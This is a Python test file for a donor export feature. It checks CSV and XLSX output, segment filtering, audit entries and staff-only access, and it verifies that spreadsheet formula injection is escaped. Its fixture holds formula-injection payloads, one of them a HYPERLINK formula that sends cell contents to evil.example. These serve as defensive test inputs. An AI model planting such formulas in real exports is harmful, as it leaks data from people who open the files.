"""The donor export: all donors or a segment's, as CSV and XLSX, formula-escaped, audited."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from donors import export, segments
from donors.models import Tag
from legami.csv_export import to_csv
from legami.extensions import db
from legami.models import AuditEntry
from payments.models import Status
from tests import factories

HOSTILE = {
    "last_name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "first_name": "+39 333 1234567",
    "street": "-1+1",
    "town": "@SUM(A1:A9)",
    "organisation_name": "\tTabbed",
}


@pytest.fixture
def donors(app):
    """A donor with hostile text, tags and gifts; a quiet one; a forgotten one."""
    camp = factories.campaign()
    tags = [Tag(name="volontari"), Tag(name="=cmd")]
    db.session.add_all(tags)
    db.session.commit()
    hostile = factories.donor(
        email="hostile@example.org",
        codice_fiscale="RSSMRA85T10A562S",
        language="en",
        newsletter_consent=True,
        tags=tags,
        phone="+39 0372 1",
        **HOSTILE,
    )
    factories.donation(
        donor=hostile, campaign=camp, amount_cents=5_000, received_on=date(2024, 3, 1)
    )
    factories.donation(
        donor=hostile,
        campaign=camp,
        amount_cents=10_000,
        refunded_cents=2_550,
        received_on=date(2025, 6, 30),
    )
    factories.donation(donor=hostile, campaign=camp, amount_cents=99_900, status=Status.FAILED)
    quiet = factories.donor(email="quiet@example.org", first_name="Bruno", last_name="Abate")
    factories.donor(email="gone@example.org", erased_at=datetime(2025, 1, 1, tzinfo=UTC))
    return hostile, quiet


@pytest.fixture
def staff(client, login):
    return login("staff")


def csv_rows(response) -> list[dict]:
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:]), delimiter=";"))


def test_the_csv_holds_every_donor_escaped_with_giving_figures(client, staff, donors):
    hostile, quiet = donors
    response = client.get("/staff/donors/export.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    by_id = {r["id"]: r for r in csv_rows(response)}
    assert set(by_id) == {str(quiet.id), str(hostile.id)}  # not the forgotten donor
    assert list(by_id[str(quiet.id)]) == export.HEADER
    row = by_id[str(hostile.id)]
    for column, value in HOSTILE.items():
        assert row[column] == "'" + value, column
    assert row["phone"] == "'+39 0372 1"
    assert row["email"] == "hostile@example.org"
    assert row["codice_fiscale"] == "RSSMRA85T10A562S"
    assert (row["language"], row["newsletter_consent"]) == ("en", "yes")
    assert row["tags"] == "'=cmd, volontari"
    assert (row["lifetime_total_eur"], row["gift_count"]) == ("124.50", "2")
    assert row["last_gift_on"] == "2025-06-30"
    none = by_id[str(quiet.id)]
    assert (none["lifetime_total_eur"], none["gift_count"], none["last_gift_on"]) == (
        "0.00",
        "0",
        "",
    )


def test_the_xlsx_holds_typed_cells_and_escaped_text(client, staff, donors):
    hostile, quiet = donors
    response = client.get("/staff/donors/export.xlsx")
    assert response.status_code == 200
    assert response.mimetype == export.XLSX_TYPE
    sheet = load_workbook(io.BytesIO(response.data)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == export.HEADER
    by_id = {r[0]: dict(zip(export.HEADER, r, strict=True)) for r in rows[1:]}
    assert set(by_id) == {quiet.id, hostile.id}
    row = by_id[hostile.id]
    for column, value in HOSTILE.items():
        assert row[column] == "'" + value, column
    assert row["tags"] == "'=cmd, volontari"
    assert row["lifetime_total_eur"] == pytest.approx(124.5)
    assert row["gift_count"] == 2
    assert row["last_gift_on"].date() == date(2025, 6, 30)
    # No cell is a formula: every text cell is stored as text.
    for cells in sheet.iter_rows():
        assert all(cell.data_type != "f" for cell in cells)


def test_a_segment_exports_only_its_donors_and_the_export_is_audited(client, staff, donors):
    hostile, _quiet = donors
    segment = segments.save(None, "Gave", "", {"gifts": {"min": 1}}, staff)
    for fmt in ("csv", "xlsx"):
        response = client.get(f"/staff/donors/export.{fmt}?segment={segment.id}")
        assert response.status_code == 200
        assert f"segment-{segment.id}-" in response.headers["Content-Disposition"]
    assert [
        r["id"] for r in csv_rows(client.get(f"/staff/donors/export.csv?segment={segment.id}"))
    ] == [str(hostile.id)]
    entries = db.session.scalars(select(AuditEntry).order_by(AuditEntry.id)).all()
    assert [(e.action, e.target, e.detail["format"], e.detail["rows"]) for e in entries] == [
        ("donors.export", f"segment:{segment.id}", "csv", 1),
        ("donors.export", f"segment:{segment.id}", "xlsx", 1),
        ("donors.export", f"segment:{segment.id}", "csv", 1),
    ]
    assert all(e.user_id == staff.id for e in entries)
    client.get("/staff/donors/export.csv")
    last = db.session.scalars(select(AuditEntry).order_by(AuditEntry.id.desc())).first()
    assert (last.target, last.detail["rows"], last.detail["segment"]) == ("donors", 2, None)


def test_an_unknown_segment_is_404_and_a_malformed_one_400(client, staff, donors):
    assert client.get("/staff/donors/export.csv?segment=999").status_code == 404
    malformed = client.get("/staff/donors/export.xlsx?segment=abc&lang=en")
    assert malformed.status_code == 400
    assert "segment must be a whole number" in malformed.text
    assert db.session.scalar(select(AuditEntry)) is None


def test_control_characters_do_not_break_the_xlsx(app, donors):
    hostile, _quiet = donors
    hostile.street = "Via\x0b Roma\x1f 1"
    db.session.commit()
    out = io.BytesIO()
    export.write_xlsx({}, out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    streets = [row[export.HEADER.index("street")] for row in sheet.iter_rows(values_only=True)]
    assert "Via Roma 1" in streets


def test_only_staff_and_admins_export(client, login, donors):
    assert client.get("/staff/donors/export.csv").status_code == 302
    login("treasurer")
    assert client.get("/staff/donors/export.csv").status_code == 403
    assert client.get("/staff/donors/export.xlsx").status_code == 403
    assert db.session.scalar(select(AuditEntry)) is None


def test_csv_stream_matches_the_whole_text():
    header, rows = ["a", "b"], [["=1", 2], [None, Decimal("1.50")]]
    assert to_csv(header, rows) == "\ufeffa;b\r\n'=1;2\r\n;1.50\r\n"
